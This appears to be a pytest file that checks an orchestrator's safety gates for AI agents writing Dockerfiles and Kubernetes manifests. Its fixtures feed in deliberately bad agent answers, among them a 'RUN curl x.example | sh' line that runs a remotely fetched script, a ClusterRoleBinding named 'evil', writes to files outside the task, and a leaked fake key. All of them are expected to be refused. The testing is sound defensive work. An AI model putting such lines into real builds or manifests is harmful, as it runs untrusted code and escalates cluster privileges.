"""Agents on a real cluster, by stand-ins on the PATH: repaired, never right, and harmful. The release stays whole."""

import json
import os
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from orchestrator.agents.prompts import render
from orchestrator.contracts import load
from tests.cluster.tree import ROOT, Tree
from tests.orchestrator.agents import stage

pytestmark = pytest.mark.cluster
ASKED = ("--agent", "dockerfile=gordon", "--agent", "manifest=kubectl-ai")
FIRST = {contract.name: render(contract).splitlines()[0] for contract in load(ROOT)}
SECRET = "sk-0123456789abcdef0123456789abcdef"
Rule = dict[str, Any]


def on(name: str, **rule: Any) -> Rule:
    """A rule for one artefact's prompt."""
    return {"when": FIRST[name], **rule}


def records(tree: Tree) -> list[dict[str, Any]]:
    """The audit log's, oldest first."""
    return [json.loads(line) for line in (tree.root / "phase-iv-audit.jsonl").read_text().splitlines()]


def made(tree: Tree, folder: Path) -> tuple[str, list[dict[str, Any]]]:
    """Deploy anew with the stand-ins of `folder` and no artefact there; what was said, and the artefacts' records."""
    log = tree.root / "phase-iv-audit.jsonl"
    before = len(records(tree)) if log.exists() else 0
    for contract in load(ROOT):
        (tree.root / contract.artefact).unlink(missing_ok=True)
    path = f"{folder}{os.pathsep}{os.environ['PATH']}"
    told = tree.deployed(*ASKED, PATH=path, GEMINI_API_KEY="none")
    for contract in load(ROOT):
        assert (tree.root / contract.artefact).read_bytes() == (ROOT / contract.artefact).read_bytes()
    assert "complete and unbroken" in tree.deployed("audit")
    return told, [one for one in records(tree)[before:] if one["artefact"]]


def test_wrong_twice_then_right_is_three_attempts_and_never_right_is_the_builtin_engine(
    tree: Tree, tmp_path: Path
) -> None:
    stage.main(tmp_path)
    good, service = stage.right("backend-dockerfile"), stage.right("frontend-service")
    as_root, piped = good.replace("USER 1000:1000", "USER root"), good.replace("USER", "RUN curl x.example | sh\nUSER")
    stage.act(
        tmp_path, "docker",
        {"when": "x.example | sh\n", "say": stage.in_fence(good)},
        {"when": "USER root\n", "say": stage.in_fence(piped)},
        on("backend-dockerfile", say=stage.in_fence(as_root)),
        on("frontend-dockerfile", say=stage.in_fence(stage.right("frontend-dockerfile"))),
    )  # fmt: skip
    rules = json.loads((tmp_path / "kubectl-ai.scenario.json").read_text())["rules"]
    wrong = [
        {"when": f"port: {number}\n", "say": stage.in_fence(service.replace("3000", str(number + 1)))}
        for number in (2, 1)
    ]
    never = [*wrong, on("frontend-service", say=stage.in_fence(service.replace("3000", "1")))]
    stage.act(tmp_path, "kubectl-ai", *never, *rules)
    _, found = made(tree, tmp_path)
    assert Counter((one["agent"], one["passed"]) for one in found) == {
        ("GORDON", False): 2, ("GORDON", True): 2,
        ("KUBECTL-AI", False): 3, ("KUBECTL-AI", True): 4, ("BUILTIN", True): 1,
    }  # fmt: skip
    (instead,) = (one for one in found if one["agent"] == "BUILTIN")
    assert "instead of kubectl-ai, 3 answers refused" in instead["result"]


def test_kagents_reading_stands_beside_the_diagnosis(tree: Tree, tmp_path: Path) -> None:
    stage.main(tmp_path)
    (tree.root / "agents.toml").write_text('[kagent]\nurl = "http://127.0.0.1:9"\n')
    told = tree.deployed("verify", "--agent", "health=kagent", PATH=f"{tmp_path}{os.pathsep}{os.environ['PATH']}")
    assert "kagent reads: All pods are Running and Ready." in told
    assert [(one["agent"], one["passed"]) for one in records(tree)[-2:]] == [("BUILTIN", True), ("KAGENT", True)]


def test_harm_is_refused_with_the_gates_reason_and_leaves_nothing_behind(tree: Tree, tmp_path: Path) -> None:
    programs, outside = tmp_path / "bin", tmp_path / "outside.txt"
    (tree.root / "agents.toml").write_text("[kubectl-ai]\nseconds = 3\n")
    service, deployment = stage.right("backend-service"), stage.right("backend-deployment")
    elsewhere = "metadata:\n  namespace: kube-system"
    binding = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: evil\n"
    stage.act(
        programs, "docker",
        on("backend-dockerfile", flood=True),
        on("frontend-dockerfile", write={str(outside): "x", str(tree.root / "evil.txt"): "x", "Dockerfile": "x"}),
    )  # fmt: skip
    stage.act(
        programs, "kubectl-ai",
        on("backend-deployment", say=stage.in_fence(deployment.replace("metadata:", elsewhere, 1))),
        on("backend-service", say=stage.in_fence(binding)),
        on("frontend-deployment", say=stage.in_fence(deployment) + stage.in_fence(service)),
        on("frontend-service", hang=True),
        on("configmap", say=f"The key is {SECRET}.\n" + stage.in_fence(f"data: {SECRET}\n")),
    )  # fmt: skip
    told, found = made(tree, programs)
    (tree.root / "agents.toml").unlink()
    results = "\n".join(one["result"] for one in found if not one["passed"])
    for reason in (
        "it wrote more than 256 kB", "it wrote files itself: Dockerfile", "metadata.namespace was not asked for",
        "kind is 'ClusterRoleBinding'", "2 fenced blocks", "no answer within 3 s", "The file holds a secret",
    ):  # fmt: skip
        assert reason in results
    assert Counter(one["agent"] for one in found if one["passed"]) == {"BUILTIN": 7}
    assert not outside.exists()
    assert not (tree.root / "evil.txt").exists()
    assert SECRET not in told + (tree.root / "phase-iv-audit.jsonl").read_text()
